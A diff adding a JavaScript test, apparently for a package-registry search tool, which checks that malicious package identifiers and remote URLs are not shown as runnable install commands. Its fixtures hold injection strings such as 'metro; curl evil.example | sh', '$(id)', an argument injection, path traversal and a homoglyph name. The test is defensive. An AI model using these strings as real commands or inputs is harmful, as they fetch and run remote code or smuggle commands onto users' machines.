@@ -93,6 +93,25 @@ test('what the registry lists is shown as its authors’ words, with how it woul
   );
 });
 
+test('what is no name of a package is shown as no command', async (t) => {
+  // Attack: a line that somebody copies into a shell.
+  const packages = [
+    { registryType: 'npm', identifier: 'metro; curl evil.example | sh' },
+    { registryType: 'npm', identifier: '$(id)' },
+    { registryType: 'npm', identifier: '--package=evil' },
+    { registryType: 'npm', identifier: '../../etc' },
+    { registryType: 'npm', identifier: 'metro@1||2' },
+    { registryType: 'npm', identifier: 'm\u0435tro' },
+    { registryType: 'pypi', identifier: 'rides @ https://evil.example/x.whl' },
+    { registryType: 'npm', identifier: '@example/metro' },
+  ];
+  const remotes = [{ url: 'npx metro; curl evil.example | sh' }, { url: 'https://evil.example/$(id)' }];
+  const servers = [{ name: 'x/y', packages, remotes }];
+  const { address } = await registryThat(t, 200, JSON.stringify({ servers }));
+  const { code, out } = await search(t, { appRegistry: address });
+  assert.deepEqual([code, out], [0, ['x/y', '  its author says: ', '  npx @example/metro', ''].join('\n')]);
+});
+
 for (const [what, status, body] of [
   ['an error', 500, '{}'],
   ['a redirect', 302, ''],
